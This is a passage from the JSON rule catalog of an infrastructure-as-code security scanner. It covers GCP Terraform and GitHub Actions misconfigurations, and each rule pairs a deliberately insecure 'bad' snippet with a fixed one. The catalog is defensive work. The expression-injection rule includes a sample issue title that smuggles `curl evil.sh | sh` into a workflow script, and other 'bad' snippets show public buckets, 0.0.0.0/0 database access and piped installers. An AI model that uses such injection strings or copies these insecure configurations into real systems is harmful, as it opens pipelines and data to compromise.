    "id": "iac/gcp-gke-node-auto-upgrade",
    "title": "GKE node pool has automatic upgrades turned off",
    "severity": "medium",
    "cwe": [
      "CWE-1104"
    ],
    "description": "With `management { auto_upgrade = false }` nodes keep their Kubernetes version and node image until someone upgrades them by hand, so kernel, container runtime and kubelet vulnerabilities stay unpatched and the pool drifts out of the supported version window.",
    "help": {
      "bad": "resource \"google_container_node_pool\" \"default\" {\n  name       = \"default\"\n  cluster    = \"main\"\n  location   = \"europe-west1\"\n  node_count = 3\n\n  management {\n    auto_repair  = true\n    auto_upgrade = false\n  }\n}\n",
      "good": "resource \"google_container_node_pool\" \"default\" {\n  name       = \"default\"\n  cluster    = \"main\"\n  location   = \"europe-west1\"\n  node_count = 3\n\n  management {\n    auto_repair  = true\n    auto_upgrade = true\n  }\n}\n",
      "fix": "Set `management { auto_upgrade = true }` and control timing with maintenance windows and a release channel."
    },
    "references": [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/node-auto-upgrades",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_node_pool#management"
    ],
    "checkov": [
      "CKV_GCP_10"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A06:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-gke-private-nodes",
    "title": "GKE cluster nodes have public IP addresses",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "Without `private_cluster_config { enable_private_nodes = true }`, every node gets an external IP address, so the kubelet, NodePorts and anything listening on the host network are one firewall mistake away from the internet. Private nodes reach the internet through Cloud NAT instead.",
    "help": {
      "bad": "resource \"google_container_cluster\" \"main\" {\n  name               = \"main\"\n  location           = \"europe-west1\"\n  initial_node_count = 1\n}\n",
      "good": "resource \"google_container_cluster\" \"main\" {\n  name               = \"main\"\n  location           = \"europe-west1\"\n  initial_node_count = 1\n\n  private_cluster_config {\n    enable_private_nodes    = true\n    enable_private_endpoint = false\n    master_ipv4_cidr_block  = \"172.16.0.0/28\"\n  }\n}\n",
      "fix": "Add `private_cluster_config { enable_private_nodes = true }` (with a `master_ipv4_cidr_block`) and give the nodes egress through Cloud NAT."
    },
    "references": [
      "https://cloud.google.com/kubernetes-engine/docs/concepts/private-cluster-concept",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#private_cluster_config"
    ],
    "checkov": [
      "CKV_GCP_25",
      "CKV_GCP_64"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-gke-shielded-nodes",
    "title": "GKE cluster has Shielded GKE Nodes turned off",
    "severity": "medium",
    "cwe": [
      "CWE-693"
    ],
    "description": "Shielded GKE Nodes give nodes a verifiable identity and integrity (secure boot, vTPM). Without them an attacker who steals a node's bootstrap credentials from a pod can impersonate a node and read secrets scheduled to it. The provider turns them on by default; `enable_shielded_nodes = false` turns them off.",
    "help": {
      "bad": "resource \"google_container_cluster\" \"main\" {\n  name                  = \"main\"\n  location              = \"europe-west1\"\n  initial_node_count    = 1\n  enable_shielded_nodes = false\n}\n",
      "good": "resource \"google_container_cluster\" \"main\" {\n  name                  = \"main\"\n  location              = \"europe-west1\"\n  initial_node_count    = 1\n  enable_shielded_nodes = true\n}\n",
      "fix": "Remove `enable_shielded_nodes = false` (the default is `true`)."
    },
    "references": [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/shielded-gke-nodes",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#enable_shielded_nodes"
    ],
    "checkov": [
      "CKV_GCP_71"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-gke-workload-identity",
    "title": "GKE cluster does not use Workload Identity",
    "severity": "medium",
    "cwe": [
      "CWE-522"
    ],
    "description": "Without Workload Identity every pod can fetch the node service account's OAuth token from the metadata server, so all workloads share the node's permissions and any SSRF or container compromise yields cloud credentials. Workload Identity gives each Kubernetes service account its own IAM identity. Autopilot clusters always use it.",
    "help": {
      "bad": "resource \"google_container_cluster\" \"main\" {\n  name               = \"main\"\n  location           = \"europe-west1\"\n  initial_node_count = 1\n}\n",
      "good": "resource \"google_container_cluster\" \"main\" {\n  name               = \"main\"\n  location           = \"europe-west1\"\n  initial_node_count = 1\n\n  workload_identity_config {\n    workload_pool = \"acme-prod.svc.id.goog\"\n  }\n}\n",
      "fix": "Add `workload_identity_config { workload_pool = \"<project>.svc.id.goog\" }` and run node pools with `workload_metadata_config { mode = \"GKE_METADATA\" }`."
    },
    "references": [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/workload-identity",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#workload_identity_config"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-iam-primitive-role",
    "title": "Owner or Editor role granted to a user or service account",
    "severity": "high",
    "cwe": [
      "CWE-269"
    ],
    "description": "The basic roles `roles/owner` and `roles/editor` grant thousands of permissions across every service in the project (or folder or organization). Granted to a user or service account, a single phished account or leaked key can read, change or delete nearly everything. Grants to groups are not reported.",
    "help": {
      "bad": "resource \"google_project_iam_member\" \"ci\" {\n  project = \"acme-prod\"\n  role    = \"roles/editor\"\n  member  = \"serviceAccount:ci@acme-prod.iam.gserviceaccount.com\"\n}\n",
      "good": "resource \"google_project_iam_member\" \"ci\" {\n  project = \"acme-prod\"\n  role    = \"roles/run.developer\"\n  member  = \"serviceAccount:ci@acme-prod.iam.gserviceaccount.com\"\n}\n",
      "fix": "Grant predefined or custom roles limited to what the identity needs; use the IAM recommender to find them."
    },
    "references": [
      "https://cloud.google.com/iam/docs/understanding-roles#basic",
      "https://cloud.google.com/iam/docs/using-iam-securely"
    ],
    "checkov": [
      "CKV_GCP_115",
      "CKV_GCP_116",
      "CKV_GCP_117"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A01:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-iam-public-member",
    "title": "IAM grants a role to allUsers or allAuthenticatedUsers",
    "severity": "high",
    "cwe": [
      "CWE-732",
      "CWE-284"
    ],
    "description": "An IAM member or binding grants a role on a resource (Pub/Sub topic, KMS key, secret, Artifact Registry repository, service account, ...) to `allUsers` (anyone on the internet) or `allAuthenticatedUsers` (anyone with a Google account). Public invoker grants on Cloud Run services and Cloud Functions, the usual way to publish a web endpoint, are not reported.",
    "help": {
      "bad": "resource \"google_pubsub_topic_iam_member\" \"publisher\" {\n  topic  = \"orders\"\n  role   = \"roles/pubsub.publisher\"\n  member = \"allAuthenticatedUsers\"\n}\n",
      "good": "resource \"google_pubsub_topic_iam_member\" \"publisher\" {\n  topic  = \"orders\"\n  role   = \"roles/pubsub.publisher\"\n  member = \"serviceAccount:orders@acme-prod.iam.gserviceaccount.com\"\n}\n",
      "fix": "Grant the role to specific users, groups or service accounts."
    },
    "references": [
      "https://cloud.google.com/iam/docs/overview#all-users",
      "https://cloud.google.com/iam/docs/using-iam-securely"
    ],
    "checkov": [
      "CKV_GCP_98",
      "CKV_GCP_99",
      "CKV_GCP_100",
      "CKV_GCP_101",
      "CKV_GCP_112",
      "CKV_GCP_113",
      "CKV2_GCP_6",
      "CKV2_GCP_8"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A01:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-iam-service-account-key",
    "title": "User-managed service account key",
    "severity": "low",
    "cwe": [
      "CWE-522"
    ],
    "description": "A `google_service_account_key` is a long-lived credential: it does not expire by default, is easily copied into CI variables and laptops, and the private key is stored in the Terraform state. Leaked keys are a leading cause of GCP compromises.",
    "help": {
      "bad": "resource \"google_service_account\" \"ci\" {\n  account_id = \"ci\"\n}\n\nresource \"google_service_account_key\" \"ci\" {\n  service_account_id = google_service_account.ci.name\n}\n",
      "good": "resource \"google_service_account\" \"ci\" {\n  account_id = \"ci\"\n}\n\nresource \"google_service_account_iam_member\" \"ci_wif\" {\n  service_account_id = google_service_account.ci.name\n  role               = \"roles/iam.workloadIdentityUser\"\n  member             = \"principalSet://iam.googleapis.com/projects/123/locations/global/workloadIdentityPools/ci/attribute.repository/acme/app\"\n}\n",
      "fix": "Use Workload Identity Federation (CI, other clouds), attached service accounts (GCP workloads) or impersonation instead of keys."
    },
    "references": [
      "https://cloud.google.com/iam/docs/best-practices-for-managing-service-account-keys",
      "https://cloud.google.com/iam/docs/workload-identity-federation"
    ],
    "checkov": [
      "CKV2_GCP_3"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A07:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-kms-key-rotation",
    "title": "KMS key is not rotated at least every 90 days",
    "severity": "medium",
    "cwe": [
      "CWE-324"
    ],
    "description": "A symmetric Cloud KMS key without `rotation_period` (or with one longer than 90 days) keeps encrypting new data with the same key version for its whole life, which widens the impact of a compromised key version. Asymmetric and MAC keys, which cannot rotate automatically, are not reported.",
    "help": {
      "bad": "resource \"google_kms_crypto_key\" \"data\" {\n  name     = \"data\"\n  key_ring = \"projects/acme/locations/europe/keyRings/main\"\n}\n",
      "good": "resource \"google_kms_crypto_key\" \"data\" {\n  name            = \"data\"\n  key_ring        = \"projects/acme/locations/europe/keyRings/main\"\n  rotation_period = \"7776000s\"\n}\n",
      "fix": "Set `rotation_period` to 7776000s (90 days) or less."
    },
    "references": [
      "https://cloud.google.com/kms/docs/key-rotation",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/kms_crypto_key#rotation_period"
    ],
    "checkov": [
      "CKV_GCP_43"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-pubsub-topic-cmek",
    "title": "Pub/Sub topic is not encrypted with a customer-managed key",
    "severity": "low",
    "cwe": [
      "CWE-311"
    ],
    "description": "Pub/Sub encrypts messages with Google-managed keys. A customer-managed Cloud KMS key (`kms_key_name`) puts access to message data under your own key policy and audit logs, and lets you revoke it. Required by some compliance regimes for sensitive data.",
    "help": {
      "bad": "resource \"google_pubsub_topic\" \"orders\" {\n  name = \"orders\"\n}\n",
      "good": "resource \"google_pubsub_topic\" \"orders\" {\n  name         = \"orders\"\n  kms_key_name = \"projects/acme/locations/europe-west1/keyRings/pubsub/cryptoKeys/orders\"\n}\n",
      "fix": "Set `kms_key_name` to a Cloud KMS key the Pub/Sub service agent can use."
    },
    "references": [
      "https://cloud.google.com/pubsub/docs/encryption",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/pubsub_topic#kms_key_name"
    ],
    "checkov": [
      "CKV_GCP_83"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-sql-backups-disabled",
    "title": "Cloud SQL instance has automated backups disabled",
    "severity": "medium",
    "cwe": [
      "CWE-693"
    ],
    "description": "Without automated backups (`settings.backup_configuration.enabled = true`) a dropped table, a corrupt migration or ransomware cannot be rolled back, and point-in-time recovery is unavailable. Read replicas (`master_instance_name` set) are not reported: they cannot have backups of their own.",
    "help": {
      "bad": "resource \"google_sql_database_instance\" \"main\" {\n  name             = \"main\"\n  database_version = \"POSTGRES_15\"\n  region           = \"europe-west1\"\n\n  settings {\n    tier = \"db-custom-2-7680\"\n\n    backup_configuration {\n      enabled = false\n    }\n  }\n}\n",
      "good": "resource \"google_sql_database_instance\" \"main\" {\n  name             = \"main\"\n  database_version = \"POSTGRES_15\"\n  region           = \"europe-west1\"\n\n  settings {\n    tier = \"db-custom-2-7680\"\n\n    backup_configuration {\n      enabled                        = true\n      point_in_time_recovery_enabled = true\n    }\n  }\n}\n",
      "fix": "Set `settings.backup_configuration.enabled = true` (and `point_in_time_recovery_enabled` or `binary_log_enabled` for point-in-time recovery)."
    },
    "references": [
      "https://cloud.google.com/sql/docs/postgres/backup-recovery/backups",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/sql_database_instance#backup_configuration"
    ],
    "checkov": [
      "CKV_GCP_14"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021",
      "resilience"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-sql-deletion-protection",
    "title": "Cloud SQL instance has deletion protection turned off",
    "severity": "low",
    "cwe": [
      "CWE-693"
    ],
    "description": "`deletion_protection = false` lets `terraform destroy`, or a change that forces replacement, delete the instance and its backups. The provider protects instances by default; turning it off removes a safety net against accidental data loss.",
    "help": {
      "bad": "resource \"google_sql_database_instance\" \"main\" {\n  name                = \"main\"\n  database_version    = \"POSTGRES_15\"\n  region              = \"europe-west1\"\n  deletion_protection = false\n\n  settings {\n    tier = \"db-custom-2-7680\"\n  }\n}\n",
      "good": "resource \"google_sql_database_instance\" \"main\" {\n  name             = \"main\"\n  database_version = \"POSTGRES_15\"\n  region           = \"europe-west1\"\n\n  settings {\n    tier                        = \"db-custom-2-7680\"\n    deletion_protection_enabled = true\n  }\n}\n",
      "fix": "Remove `deletion_protection = false` (the default is `true`), and consider `settings.deletion_protection_enabled = true` to guard against deletion outside Terraform as well."
    },
    "references": [
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/sql_database_instance#deletion_protection",
      "https://cloud.google.com/sql/docs/postgres/deletion-protection"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021",
      "resilience"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-sql-insecure-database-flags",
    "title": "Cloud SQL database flag turns on an insecure feature",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "Some engine flags widen what a database user can do: MySQL `local_infile` lets the server read client files through `LOAD DATA LOCAL` (abused by rogue servers and SQL injection); SQL Server `cross db ownership chaining` lets a user reach objects in other databases, `contained database authentication` lets users authenticate without a server login, and `external scripts enabled` runs R/Python code on the server. Each is off by default.",
    "help": {
      "bad": "resource \"google_sql_database_instance\" \"main\" {\n  name             = \"main\"\n  database_version = \"MYSQL_8_0\"\n  region           = \"europe-west1\"\n\n  settings {\n    tier = \"db-n1-standard-1\"\n\n    database_flags {\n      name  = \"local_infile\"\n      value = \"on\"\n    }\n  }\n}\n",
      "good": "resource \"google_sql_database_instance\" \"main\" {\n  name             = \"main\"\n  database_version = \"MYSQL_8_0\"\n  region           = \"europe-west1\"\n\n  settings {\n    tier = \"db-n1-standard-1\"\n\n    database_flags {\n      name  = \"local_infile\"\n      value = \"off\"\n    }\n  }\n}\n",
      "fix": "Remove the flag or set it to `off`."
    },
    "references": [
      "https://cloud.google.com/sql/docs/mysql/flags",
      "https://cloud.google.com/sql/docs/sqlserver/flags",
      "https://dev.mysql.com/doc/refman/8.0/en/load-data-local-security.html"
    ],
    "checkov": [
      "CKV_GCP_50",
      "CKV_GCP_58",
      "CKV_GCP_59"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-sql-postgres-log-flags",
    "title": "Cloud SQL for PostgreSQL does not log connections, disconnections, checkpoints or lock waits",
    "severity": "low",
    "cwe": [
      "CWE-778"
    ],
    "description": "The PostgreSQL flags `log_connections`, `log_disconnections`, `log_checkpoints` and `log_lock_waits` record who connected and when, and the events needed to investigate an incident or a performance problem. Cloud SQL leaves most of them off. A flag set to `off` is reported on its line; flags never set are reported together on the instance.",
    "help": {
      "bad": "resource \"google_sql_database_instance\" \"main\" {\n  name             = \"main\"\n  database_version = \"POSTGRES_15\"\n  region           = \"europe-west1\"\n\n  settings {\n    tier = \"db-custom-2-7680\"\n\n    database_flags {\n      name  = \"log_connections\"\n      value = \"off\"\n    }\n  }\n}\n",
      "good": "resource \"google_sql_database_instance\" \"main\" {\n  name             = \"main\"\n  database_version = \"POSTGRES_15\"\n  region           = \"europe-west1\"\n\n  settings {\n    tier = \"db-custom-2-7680\"\n\n    database_flags {\n      name  = \"log_checkpoints\"\n      value = \"on\"\n    }\n\n    database_flags {\n      name  = \"log_connections\"\n      value = \"on\"\n    }\n\n    database_flags {\n      name  = \"log_disconnections\"\n      value = \"on\"\n    }\n\n    database_flags {\n      name  = \"log_lock_waits\"\n      value = \"on\"\n    }\n  }\n}\n",
      "fix": "Add `database_flags` blocks setting `log_checkpoints`, `log_connections`, `log_disconnections` and `log_lock_waits` to `on`."
    },
    "references": [
      "https://cloud.google.com/sql/docs/postgres/flags",
      "https://www.postgresql.org/docs/current/runtime-config-logging.html"
    ],
    "checkov": [
      "CKV_GCP_51",
      "CKV_GCP_52",
      "CKV_GCP_53",
      "CKV_GCP_54"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A09:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-sql-public-authorized-network",
    "title": "Cloud SQL instance accepts connections from any IP address",
    "severity": "critical",
    "cwe": [
      "CWE-284"
    ],
    "description": "An authorized network of 0.0.0.0/0 on an instance with a public IP lets anyone on the internet reach the database port. Only the database password then stands between the data and an attacker, and database engines are prime brute-force and exploit targets.",
    "help": {
      "bad": "resource \"google_sql_database_instance\" \"main\" {\n  name             = \"main\"\n  database_version = \"POSTGRES_15\"\n  region           = \"europe-west1\"\n\n  settings {\n    tier = \"db-custom-2-7680\"\n\n    ip_configuration {\n      ipv4_enabled = true\n\n      authorized_networks {\n        name  = \"anyone\"\n        value = \"0.0.0.0/0\"\n      }\n    }\n  }\n}\n",
      "good": "resource \"google_sql_database_instance\" \"main\" {\n  name             = \"main\"\n  database_version = \"POSTGRES_15\"\n  region           = \"europe-west1\"\n\n  settings {\n    tier = \"db-custom-2-7680\"\n\n    ip_configuration {\n      ipv4_enabled    = false\n      private_network = \"projects/acme/global/networks/main\"\n    }\n  }\n}\n",
      "fix": "Use private IP (`ipv4_enabled = false` with `private_network`) or the Cloud SQL Auth Proxy; if a public IP is needed, authorize only specific office or NAT ranges."
    },
    "references": [
      "https://cloud.google.com/sql/docs/postgres/configure-ip",
      "https://cloud.google.com/sql/docs/postgres/authorize-networks",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/sql_database_instance#ip_configuration"
    ],
    "checkov": [
      "CKV_GCP_11"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-sql-ssl-not-required",
    "title": "Cloud SQL instance accepts unencrypted connections",
    "severity": "medium",
    "cwe": [
      "CWE-319"
    ],
    "description": "Unless `ssl_mode` is `ENCRYPTED_ONLY` or `TRUSTED_CLIENT_CERTIFICATE_REQUIRED` (or, in provider versions before 6.0, `require_ssl = true`), clients may connect without TLS, and credentials and query results cross the network in clear text.",
    "help": {
      "bad": "resource \"google_sql_database_instance\" \"main\" {\n  name             = \"main\"\n  database_version = \"MYSQL_8_0\"\n  region           = \"europe-west1\"\n\n  settings {\n    tier = \"db-n1-standard-1\"\n\n    ip_configuration {\n      ssl_mode = \"ALLOW_UNENCRYPTED_AND_ENCRYPTED\"\n    }\n  }\n}\n",
      "good": "resource \"google_sql_database_instance\" \"main\" {\n  name             = \"main\"\n  database_version = \"MYSQL_8_0\"\n  region           = \"europe-west1\"\n\n  settings {\n    tier = \"db-n1-standard-1\"\n\n    ip_configuration {\n      ssl_mode = \"ENCRYPTED_ONLY\"\n    }\n  }\n}\n",
      "fix": "Set `ssl_mode = \"ENCRYPTED_ONLY\"` (or `TRUSTED_CLIENT_CERTIFICATE_REQUIRED`) in `settings.ip_configuration`; with provider versions before 6.0, `require_ssl = true`."
    },
    "references": [
      "https://cloud.google.com/sql/docs/mysql/configure-ssl-instance",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/sql_database_instance#ssl_mode"
    ],
    "checkov": [
      "CKV_GCP_6"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A02:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-storage-bucket-logging",
    "title": "Cloud Storage bucket has no usage logging",
    "severity": "low",
    "cwe": [
      "CWE-778"
    ],
    "description": "Usage logs record every request to the bucket (who, what, when). Without them (or Data Access audit logs), it is hard to tell after an incident which objects were read or changed. Buckets that receive other buckets' usage logs or a Cloud Logging sink's exports are not reported.",
    "help": {
      "bad": "resource \"google_storage_bucket\" \"data\" {\n  name                        = \"acme-data\"\n  location                    = \"EU\"\n  uniform_bucket_level_access = true\n}\n",
      "good": "resource \"google_storage_bucket\" \"logs\" {\n  name                        = \"acme-access-logs\"\n  location                    = \"EU\"\n  uniform_bucket_level_access = true\n}\n\nresource \"google_storage_bucket\" \"data\" {\n  name                        = \"acme-data\"\n  location                    = \"EU\"\n  uniform_bucket_level_access = true\n\n  logging {\n    log_bucket = google_storage_bucket.logs.name\n  }\n}\n",
      "fix": "Add a `logging { log_bucket = ... }` block pointing at a dedicated log bucket, or enable Data Access audit logs for Cloud Storage."
    },
    "references": [
      "https://cloud.google.com/storage/docs/access-logs",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/storage_bucket#logging"
    ],
    "checkov": [
      "CKV_GCP_62"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A09:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-storage-bucket-public",
    "title": "Cloud Storage bucket is publicly accessible",
    "severity": "high",
    "cwe": [
      "CWE-284",
      "CWE-200"
    ],
    "description": "An IAM grant or ACL gives `allUsers` (anyone on the internet) or `allAuthenticatedUsers` (anyone with a Google account) access to a bucket or its objects. Public buckets are a common source of data leaks; anything written to them later is exposed too.",
    "help": {
      "bad": "resource \"google_storage_bucket\" \"reports\" {\n  name     = \"acme-reports\"\n  location = \"EU\"\n}\n\nresource \"google_storage_bucket_iam_member\" \"public\" {\n  bucket = google_storage_bucket.reports.name\n  role   = \"roles/storage.objectViewer\"\n  member = \"allUsers\"\n}\n",
      "good": "resource \"google_storage_bucket\" \"reports\" {\n  name     = \"acme-reports\"\n  location = \"EU\"\n}\n\nresource \"google_storage_bucket_iam_member\" \"readers\" {\n  bucket = google_storage_bucket.reports.name\n  role   = \"roles/storage.objectViewer\"\n  member = \"group:report-readers@example.com\"\n}\n",
      "fix": "Grant access to specific users, groups or service accounts; serve public content through Cloud CDN or signed URLs, and enforce `public_access_prevention` on buckets that must stay private."
    },
    "references": [
      "https://cloud.google.com/storage/docs/access-control/making-data-public",
      "https://cloud.google.com/storage/docs/public-access-prevention",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/storage_bucket_iam"
    ],
    "checkov": [
      "CKV_GCP_28"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-storage-bucket-uniform-access",
    "title": "Cloud Storage bucket does not use uniform bucket-level access",
    "severity": "medium",
    "cwe": [
      "CWE-284"
    ],
    "description": "Without uniform bucket-level access, every object can carry its own ACL next to the bucket IAM policy. Object ACLs are easy to overlook when reviewing who can read a bucket, and a single object made public by an uploader leaks data. The provider leaves it off unless `uniform_bucket_level_access = true`.",
    "help": {
      "bad": "resource \"google_storage_bucket\" \"data\" {\n  name     = \"acme-data\"\n  location = \"EU\"\n}\n",
      "good": "resource \"google_storage_bucket\" \"data\" {\n  name                        = \"acme-data\"\n  location                    = \"EU\"\n  uniform_bucket_level_access = true\n}\n",
      "fix": "Set `uniform_bucket_level_access = true` and grant access with IAM only."
    },
    "references": [
      "https://cloud.google.com/storage/docs/uniform-bucket-level-access",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/storage_bucket#uniform_bucket_level_access"
    ],
    "checkov": [
      "CKV_GCP_29"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gcp-storage-bucket-versioning",
    "title": "Cloud Storage bucket versioning is not enabled",
    "severity": "low",
    "cwe": [
      "CWE-693"
    ],
    "description": "Without object versioning, an overwritten or deleted object is gone: a faulty deployment, a compromised credential or ransomware can destroy the bucket contents with no way to restore them.",
    "help": {
      "bad": "resource \"google_storage_bucket\" \"backups\" {\n  name     = \"acme-backups\"\n  location = \"EU\"\n\n  uniform_bucket_level_access = true\n}\n",
      "good": "resource \"google_storage_bucket\" \"backups\" {\n  name     = \"acme-backups\"\n  location = \"EU\"\n\n  uniform_bucket_level_access = true\n\n  versioning {\n    enabled = true\n  }\n}\n",
      "fix": "Add `versioning { enabled = true }`, with a lifecycle rule that deletes old noncurrent versions to bound the cost."
    },
    "references": [
      "https://cloud.google.com/storage/docs/object-versioning",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/storage_bucket#versioning"
    ],
    "checkov": [
      "CKV_GCP_78"
    ],
    "platform": "terraform",
    "provider": "gcp",
    "tags": [
      "terraform",
      "gcp",
      "owasp:A05:2021",
      "resilience"
    ],
    "precision": "high"
  },
  {
    "id": "iac/gha-checkout-persist-credentials",
    "title": "Checkout keeps the token in .git/config in a privileged workflow",
    "severity": "low",
    "cwe": [
      "CWE-522"
    ],
    "description": "actions/checkout writes the GITHUB_TOKEN into `.git/config` unless `persist-credentials: false` is set, so every later step (and anything that uploads the workspace as an artifact) can read it. In `pull_request_target`, `workflow_run` and `issue_comment` workflows that token can write to the repository, and later steps often touch content from the pull request.",
    "help": {
      "bad": "on: pull_request_target\npermissions:\n  contents: read\n  pull-requests: write\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./scripts/label.sh\n",
      "good": "on: pull_request_target\npermissions:\n  contents: read\n  pull-requests: write\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n      - run: ./scripts/label.sh\n",
      "fix": "Set `persist-credentials: false` on actions/checkout and pass a token explicitly only to the step that needs to push."
    },
    "references": [
      "https://github.com/actions/checkout#usage",
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
    ],
    "tags": [
      "github-actions",
      "owasp:A05:2021",
      "secrets"
    ],
    "precision": "medium",
    "platform": "github-actions"
  },
  {
    "id": "iac/gha-curl-pipe-shell",
    "title": "Downloaded script piped into a shell",
    "severity": "medium",
    "cwe": [
      "CWE-494"
    ],
    "description": "`curl ... | sh` runs whatever the server returns at that moment, with no checksum or signature check, inside a job that holds the repository token and secrets. A compromised download host, a hijacked domain or a changed script silently becomes code running in the pipeline.",
    "help": {
      "bad": "on: push\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSL https://example.com/install.sh | bash\n",
      "good": "on: push\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -fsSLo install.sh https://example.com/v1.2.3/install.sh\n          echo \"3f1c0e5d6c2b9a8e7f4d1c0b9a8e7f6d5c4b3a2918d7e6f5a4b3c2d1e0f9a8b7  install.sh\" | sha256sum -c -\n          bash install.sh\n",
      "fix": "Download a versioned file, verify its checksum or signature, then run it; or use a pinned action or package instead."
    },
    "references": [
      "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-03-Dependency-Chain-Abuse"
    ],
    "tags": [
      "github-actions",
      "owasp:A08:2021",
      "supply-chain"
    ],
    "precision": "high",
    "platform": "github-actions"
  },
  {
    "id": "iac/gha-expression-injection",
    "title": "Untrusted input expanded into a script",
    "severity": "high",
    "cwe": [
      "CWE-78",
      "CWE-94"
    ],
    "description": "GitHub replaces `${{ ... }}` expressions in `run:` (and in the `script:` of actions/github-script) before the shell or Node runs the text. Values such as an issue or pull request title, a comment body, a branch name or a commit message are chosen by whoever opens the issue or pull request, so a title like `a\"; curl evil.sh | sh; echo \"` becomes part of the script and runs with the job's token and secrets.",
    "help": {
      "bad": "on: issues\npermissions: {}\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue ${{ github.event.issue.title }}\"\n",
      "good": "on: issues\npermissions: {}\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue $TITLE\"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n",
      "fix": "Pass the value through `env:` and refer to it as a shell variable (`\"$TITLE\"`), which the shell never parses as code."
    },
    "references": [
      "https://securitylab.github.com/resources/github-actions-untrusted-input/",
      "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"
    ],
    "tags": [
      "github-actions",
      "owasp:A03:2021",
      "injection"
    ],
    "precision": "high",
    "platform": "github-actions",
    "checkov": [
      "CKV_GHA_2"
    ]
  },
  {
    "id": "iac/gha-hardcoded-secret",
    "title": "Hard-coded secret in a workflow",
    "severity": "high",
    "cwe": [
      "CWE-798"
    ],
